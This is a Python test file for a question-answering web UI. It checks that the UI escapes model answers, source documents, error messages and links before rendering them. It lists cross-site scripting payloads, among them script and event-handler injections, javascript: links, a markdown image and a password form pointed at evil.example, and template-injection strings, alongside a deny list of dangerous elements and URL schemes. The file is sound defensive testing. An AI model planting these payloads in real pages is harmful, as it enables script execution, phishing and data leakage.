"""Nothing from a model, a document or a question can become markup."""

import re
from dataclasses import replace
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from corpus.errors import QaError
from qa.answer import Answer, Check, Claim, Conflict, Statement, Table
from tests.ui.scripted_assistant import ARTICLE, ScriptedAssistant, library
from ui.page.conversation import Turn
from ui.page.rendering.answer import answer_card
from ui.page.rendering.conversation import failed, turn
from ui.page.rendering.library import listing
from ui.page.rendering.markup import Markup, escape, join, link, tag
from ui.page.rendering.reader import reader
from ui.texts import texts

WORDS = texts("en")

VECTORS = (
    "<script>window.__xss=1</script>",
    "<img src=x onerror='window.__xss=1'>",
    "![leak](http://evil.example/leak?q=1)",
    "[click](javascript:window.__xss=1)",
    "<a href='http://evil.example/'>link</a>",
    "<form action='http://evil.example/'><input type=password name=p><button>go</button></form>",
    "<iframe src='http://evil.example/'></iframe>",
    "<svg onload='window.__xss=1'></svg>",
    "<style>body{background:url(http://evil.example/css)}</style>",
    '"><button class=mark data-action=open data-source=x>9</button>',
    "<details open ontoggle='window.__xss=1'>x</details>",
    "${window.__xss=1} {{constructor.constructor('window.__xss=1')()}}",
)
HARMFUL = {"script", "img", "iframe", "svg", "style", "input", "form", "object", "embed", "base"}


class Reading(HTMLParser):
    """Collects the elements, attributes and addresses of a piece of HTML."""

    def __init__(self, markup: str) -> None:
        super().__init__()
        self.elements: list[str] = []
        self.attributes: list[tuple[str, str | None]] = []
        self.seen = ""
        self.feed(markup)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append(tag)
        self.attributes += attrs

    def handle_data(self, data: str) -> None:
        self.seen += data

    @property
    def addresses(self) -> list[str]:
        return [value or "" for name, value in self.attributes if name in {"href", "src", "action"}]


def poisoned(vector: str) -> Answer:
    """An answer in which every text is the vector."""
    answer = ScriptedAssistant(pause=0).ask("why did Zhipu turn to Hong Kong?")
    citation = replace(
        answer.citations[0], title=vector, publisher=vector, quote=vector, position=vector,
        url="javascript:window.__xss=1", date=vector, source_id=vector,
        references=(replace(answer.citations[0].references[0], publisher=vector, url=vector),),
    )  # fmt: skip
    check = Check(vector, False, vector)
    return replace(
        answer, question=vector, resolved_question=vector + "?", text=f"{vector} [1]\n> {vector}",
        citations=(citation,), claims=(Claim(vector, (citation,), "partly", (check,)),),
        conflicts=(Conflict(vector, (Statement(vector, vector, vector),)),),
        table=Table((vector,), ((vector,),)), missing=vector, notices=(vector,),
        follow_ups=(vector,), language=vector,
    )  # fmt: skip


@pytest.mark.parametrize("vector", VECTORS)
def test_an_answer_stays_text(vector: str) -> None:
    clean = Reading(turn(Turn("q", poisoned("plain words")), 0, WORDS))
    html = Reading(turn(Turn(vector, poisoned(vector)), 0, WORDS))
    assert html.elements == clean.elements
    assert [name for name, _ in html.attributes] == [name for name, _ in clean.attributes]
    assert not html.addresses
    assert vector.split("[")[0] in html.seen


@pytest.mark.parametrize("vector", VECTORS)
def test_a_source_stays_text(vector: str) -> None:
    source = replace(
        library().source(ARTICLE), title=vector, publisher=vector, text=f"{vector}\n{vector}",
        sections=(), marks=(), url=vector, rights=vector, language=vector, id=vector,
    )  # fmt: skip
    shown = (reader(source, WORDS, 2, 9), listing([source], {vector}, WORDS))
    for html in map(Reading, shown):
        assert not HARMFUL & set(html.elements)
        assert not html.addresses
        assert not [name for name, _ in html.attributes if name.startswith("on")]


@pytest.mark.parametrize("vector", VECTORS)
def test_an_error_stays_text(vector: str) -> None:
    html = Reading(failed(vector, 0, QaError(vector, vector), WORDS))
    assert not HARMFUL & set(html.elements)


@given(st.text())
def test_escaped_text_has_no_elements(text: str) -> None:
    html = Reading(escape(text))
    assert not html.elements


@pytest.mark.parametrize(
    "address",
    [
        "javascript:alert(1)", "JAVASCRIPT:alert(1)", "data:text/html,x", "vbscript:x", "//evil",
        "/relative", "http:", "https://", " http://a.example", "http://a.example/\nb",
        "java\tscript:alert(1)", "file:///etc/passwd", "http://[bad", "",
    ],
)  # fmt: skip
def test_only_web_addresses_become_links(address: str) -> None:
    assert link(address, "text") == "text"


def test_a_web_address_becomes_a_guarded_link() -> None:
    made = link('https://a.example/?q="x"&y=<b>', "a <b>")
    html = Reading(made)
    assert html.elements == ["a"]
    assert html.addresses == ['https://a.example/?q="x"&y=<b>']
    assert ("rel", "noopener noreferrer nofollow") in html.attributes


def test_what_could_act_is_refused() -> None:
    for element in ("script", "iframe", "img", "style", "a"):
        if element != "a":
            with pytest.raises(ValueError, match="element"):
                tag(element)
    for attribute in ("onclick", "style", "href", "src", "action", "formaction", "srcdoc"):
        with pytest.raises(ValueError, match="attribute"):
            tag("p", **{attribute: "x"})


def test_markup_is_not_escaped_twice() -> None:
    inner = tag("p", "a & b")
    assert tag("div", inner) == "<div><p>a &amp; b</p></div>"
    assert join([inner, Markup("<p>x</p>")]) == "<p>a &amp; b</p><p>x</p>"


def test_a_mark_without_citation_stays_text() -> None:
    answer = ScriptedAssistant(pause=0).ask("why did Zhipu turn to Hong Kong?")
    shown = answer_card(replace(answer, text="A claim [7]."), 0, WORDS)
    body = re.search(r'class="answer-text".*?</div>', shown)
    assert body is not None
    assert "A claim [7]." in body[0]
    assert "<button" not in body[0]


def test_the_highlight_is_the_quotation() -> None:
    answer = ScriptedAssistant(pause=0).ask("why did Zhipu turn to Hong Kong?")
    cited = answer.citations[0]
    shown = reader(library().source(ARTICLE), WORDS, cited.start, cited.end)
    marked = re.findall(r'<mark class="quoted">(.*?)</mark>', shown)
    assert "".join(marked) == cited.quote
